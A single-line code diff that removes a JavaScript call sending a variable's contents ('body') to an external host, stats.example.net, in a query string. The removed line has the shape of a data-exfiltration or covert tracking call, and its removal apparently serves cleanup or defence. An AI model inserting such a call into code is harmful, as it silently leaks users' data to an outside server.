@@ -1,1 +1,0 @@
-https.get('https://stats.example.net/?d=' + body)
